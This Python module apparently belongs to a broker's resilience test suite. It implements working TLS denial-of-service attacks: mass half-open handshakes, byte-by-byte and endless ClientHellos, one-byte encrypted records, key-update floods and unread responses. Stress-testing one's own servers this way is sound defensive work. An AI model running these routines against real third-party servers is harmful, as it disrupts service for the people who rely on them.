"""Attacks on a TLS listener: handshakes that do not end, and records of TLS that cost more than they carry."""

from __future__ import annotations

import itertools
import struct
from collections.abc import Awaitable, Callable
from functools import partial

import trio

from .attacks import MIB, Address, Attack, Run, unknown_names
from .peers import Gone, Peer, connected, many, persist
from .tls_peers import HANDSHAKE, TlsPeer, client_hello

TRICKLE_S = 0.02
SENT_AT_ONCE_BYTES = 1 << 16
ANNOUNCED_BYTES = 90 * MIB
"""Of a frame that a broker takes: what is sent is the beginning of it."""


def half_open() -> Run:
    """Each says hello, and nothing more."""
    hello = client_hello()

    async def say_hello(peer: Peer) -> None:
        await peer.send_raw(hello)
        await trio.sleep_forever()

    return on_connections(1000, say_hello)


def byte_by_byte() -> Run:
    hello = client_hello()

    async def trickle(peer: Peer) -> None:
        for each in hello:
            await peer.send_raw(bytes([each]))
            await trio.sleep(TRICKLE_S)
        await trio.sleep_forever()

    return on_connections(500, trickle)


def endless_hello(record_bytes: int) -> Run:
    """A ClientHello of 16 MiB, in records of so many bytes."""
    begin = struct.pack(">BHHI", HANDSHAKE, 0x0301, 4, 0x01FFFFFF)
    record = struct.pack(">BHH", HANDSHAKE, 0x0301, record_bytes) + bytes(record_bytes)
    rest = record * (SENT_AT_ONCE_BYTES // len(record))

    async def say_hello(peer: Peer) -> None:
        await peer.send_raw(begin)
        while True:
            await peer.send_raw(rest)

    return on_connections(10, say_hello)


async def come_and_go(address: Address) -> None:
    """Whole handshakes, and then connections that nobody needs."""

    async def again() -> None:
        while True:
            try:
                async with connected(address) as peer:
                    await TlsPeer(peer).shake_hands()
            except Gone:
                await trio.sleep(0.05)

    await many(20, again)


async def byte_a_record(peer: TlsPeer) -> None:
    """A large frame in records of one byte, each of which is decrypted for itself."""
    await peer.send(peer.records([struct.pack(">i", ANNOUNCED_BYTES)]))
    while True:
        await peer.send(peer.records(itertools.repeat(b"\0", 5000)))


async def key_updates(peer: TlsPeer) -> None:
    """New keys in each record, and the broker is asked for new ones of its own; what it answers is not read."""
    while True:
        await peer.send(peer.key_updates(2000))


async def answer_unread(request: bytes, peer: TlsPeer) -> None:
    await peer.send(peer.records([request]))
    await trio.sleep_forever()


def on_connections(count: int, attack: Callable[[Peer], Awaitable[None]]) -> Run:
    return lambda address: many(count, partial(persist, address, attack))


def secured(count: int, attack: Callable[[TlsPeer], Awaitable[None]]) -> Run:
    """As on_connections, behind a handshake."""

    async def attack_secured(peer: Peer) -> None:
        tls_peer = TlsPeer(peer)
        await tls_peer.shake_hands()
        await attack(tls_peer)

    return on_connections(count, attack_secured)


TLS_ATTACKS: dict[str, Attack] = {
    name: Attack(prepare, over_tls=True)
    for name, prepare in {
        "TLS: 1,000 half-open handshakes": half_open,
        "TLS: 500 hellos byte by byte": byte_by_byte,
        "TLS: hellos without end": lambda: endless_hello(16_384),
        "TLS: hellos without end, a byte a record": lambda: endless_hello(1),
        "TLS: handshakes that come and go": lambda: come_and_go,
        "TLS: data, a byte a record": lambda: secured(10, byte_a_record),
        "TLS: new keys in each record": lambda: secured(10, key_updates),
        "TLS: 133 answers unread": lambda: secured(133, partial(answer_unread, unknown_names(200_000))),
    }.items()
}
